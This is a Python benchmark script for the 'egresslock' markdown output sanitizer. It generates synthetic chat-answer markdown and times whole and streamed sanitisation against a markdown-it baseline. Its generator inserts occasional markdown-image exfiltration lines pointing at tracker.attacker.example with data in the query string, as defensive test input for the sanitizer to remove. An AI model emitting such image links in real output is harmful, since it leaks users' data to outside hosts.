"""Benchmark of the output sanitizer: 1 MB of realistic markdown, whole and streamed.

Usage::

    .venv/bin/python bench/bench_sanitize.py            # the table
    .venv/bin/python bench/bench_sanitize.py --json     # the same numbers as JSON
    .venv/bin/python bench/bench_sanitize.py --quick    # one run each: a smoke test

The text is generated from a fixed seed to look like a chat model's technical answers:
headings, prose with inline code and bold, bullet and numbered lists, fenced code (with blank
lines inside), tables, block quotes, links to documentation (one paragraph in six), images (one
in thirty), bare URLs, and a few exfiltration attempts (an image to an unlisted host with data
in its query), so the sanitizer has things to keep, rewrite and remove.

Rows: markdown-it-py's own parse and render of the same text (the baseline: what a server that
renders markdown already pays), ``sanitize.markdown`` on the whole text, and the streaming
``Sanitizer`` fed 100-byte and 10-byte chunks. Each is the median of several runs. Target:
1 MB sanitised in under 0.2 s, whole and streamed in 100-byte chunks.
"""

from __future__ import annotations

import argparse
import json
import platform
import random
import statistics
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "src"))

from egresslock import sanitize  # noqa: E402
from egresslock.policy import parse_policy  # noqa: E402

POLICY = """
version: 1
secrets:
  - {name: demo-token, value: "sk-live-4f9a2c7e1b8d3f60a5c2"}
output:
  images: [{host: cdn.acme-corp.example, paths: ["/img/**"]}]
  links: [{host: docs.acme-corp.example}, {host: github.com, paths: ["/acme/**"]}]
"""
TARGET_S = 0.2
_VOCABULARY = ("the request is sent to server which then returns a response with status code and "
         "body configuration file option value default setting user session token cache layer "
         "database query index table row column function method class module package import "
         "error message exception handler retry timeout connection pool thread process memory "
         "disk network latency throughput test case fixture assertion result output input "
         "stream buffer chunk parser renderer policy rule host path header proxy")
WORDS = _VOCABULARY.split()


def _sentence(rng: random.Random) -> str:
    words = [rng.choice(WORDS) for _ in range(rng.randint(6, 18))]
    words[0] = words[0].capitalize()
    if rng.random() < 0.3:
        words.insert(rng.randint(1, len(words) - 1), f"`{rng.choice(WORDS)}()`")
    if rng.random() < 0.15:
        i = rng.randint(1, len(words) - 1)
        words[i] = f"**{words[i]}**"
    return " ".join(words) + rng.choice(".....?!:")


def _paragraph(rng: random.Random) -> str:
    text = " ".join(_sentence(rng) for _ in range(rng.randint(1, 4)))
    roll = rng.random()
    if roll < 0.16:
        text += (f" See [the {rng.choice(WORDS)} guide]"
                 f"(https://docs.acme-corp.example/{rng.choice(WORDS)}/{rng.choice(WORDS)}).")
    elif roll < 0.19:
        text += f" ![diagram](https://cdn.acme-corp.example/img/{rng.choice(WORDS)}.png)"
    elif roll < 0.22:
        text += f" Source: https://github.com/acme/{rng.choice(WORDS)}"
    elif roll < 0.23:
        text += (f" ![status](https://tracker.attacker.example/p.gif?d="
                 f"{rng.getrandbits(128):032x})")
    return text + "\n\n"


def _code(rng: random.Random) -> str:
    lines = []
    for _ in range(rng.randint(4, 22)):
        if rng.random() < 0.12:
            lines.append("")
        else:
            lines.append("    " * rng.randint(0, 2) + f"{rng.choice(WORDS)} = "
                         f"{rng.choice(WORDS)}({rng.choice(WORDS)}, {rng.randint(0, 99)})")
    return f"```{rng.choice(['python', 'bash', ''])}\n" + "\n".join(lines) + "\n```\n\n"


def _answer(rng: random.Random) -> str:
    parts = [f"## {_sentence(rng).rstrip('.?!:')}\n\n"]
    for _ in range(rng.randint(2, 4)):
        parts.append(_paragraph(rng))
    items = "".join(f"- {_sentence(rng)}\n" for _ in range(rng.randint(3, 6)))
    parts.append(items + "\n")
    if rng.random() < 0.5:
        parts.append("".join(f"{i}. {_sentence(rng)}\n" for i in range(1, rng.randint(3, 5)))
                     + "\n")
    parts.append(_code(rng))
    parts.append(_paragraph(rng))
    if rng.random() < 0.15:
        rows = "".join(f"| {rng.choice(WORDS)} | `{rng.choice(WORDS)}` | {rng.randint(1, 99)} |\n"
                       for _ in range(rng.randint(2, 6)))
        parts.append("| name | value | count |\n|---|---|---|\n" + rows + "\n")
    if rng.random() < 0.1:
        parts.append(f"> **Note:** {_sentence(rng)}\n> {_sentence(rng)}\n\n")
    return "".join(parts)


def realistic_markdown(size: int, seed: int = 7) -> str:
    """About ``size`` bytes of chat-answer markdown, the same for the same seed."""
    rng = random.Random(seed)
    parts: list[str] = []
    total = 0
    while total < size:
        answer = _answer(rng)
        parts.append(answer)
        total += len(answer.encode())
    return "".join(parts)


def _median(fn: object, runs: int) -> float:
    times = []
    for _ in range(runs):
        start = time.perf_counter()
        fn()  # type: ignore[operator]
        times.append(time.perf_counter() - start)
    return statistics.median(times)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--json", action="store_true")
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--size", type=int, default=1_000_000)
    args = parser.parse_args()
    runs = 1 if args.quick else 5

    from markdown_it import MarkdownIt

    text = realistic_markdown(args.size)
    policy = sanitize.compiled(parse_policy(POLICY, "bench-policy.yaml"))
    gfm = MarkdownIt("gfm-like")

    def streamed(size: int) -> str:
        stream = sanitize.Sanitizer(policy)
        out = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
        out.append(stream.close())
        return "".join(out)

    whole = sanitize.markdown(text, policy)
    if streamed(100) != whole:
        raise SystemExit("streamed output differs from whole output: not benchmarking")
    removed: list[sanitize.Removal] = []
    sanitize.markdown(text, policy, on_removal=removed.append)

    rows = [
        ("markdown-it-py render (gfm-like), baseline", _median(lambda: gfm.render(text), runs)),
        ("sanitize.markdown, whole text", _median(lambda: sanitize.markdown(text, policy),
                                                  runs)),
        ("Sanitizer, 100-byte chunks", _median(lambda: streamed(100), runs)),
        ("Sanitizer, 10-byte chunks", _median(lambda: streamed(10), runs)),
    ]
    baseline = rows[0][1]
    size = len(text.encode())
    result = {
        "python": platform.python_version(), "bytes": size, "removed": len(removed),
        "rows": [{"what": what, "seconds": round(t, 4), "mb_per_s": round(size / t / 1e6, 2),
                  "vs_baseline": round(t / baseline, 3)} for what, t in rows],
    }
    if args.json:
        print(json.dumps(result, indent=2))
        return
    print(f"egresslock sanitize, Python {result['python']}: {size:,} bytes of markdown, "
          f"{len(removed)} removals, median of {runs}\n")
    print(f"{'':45} {'seconds':>8} {'MB/s':>7} {'vs baseline':>12}")
    print("-" * 75)
    for row in result["rows"]:  # type: ignore[attr-defined]
        print(f"{row['what']:45} {row['seconds']:8.3f} {row['mb_per_s']:7.2f} "
              f"{row['vs_baseline']:11.2f}x")
    met = all(r[1] < TARGET_S for r in rows[1:3])
    print(f"target < {TARGET_S} s for 1 MB, whole and 100-byte chunks: "
          f"{'met' if met else 'MISSED'}")


if __name__ == "__main__":
    main()
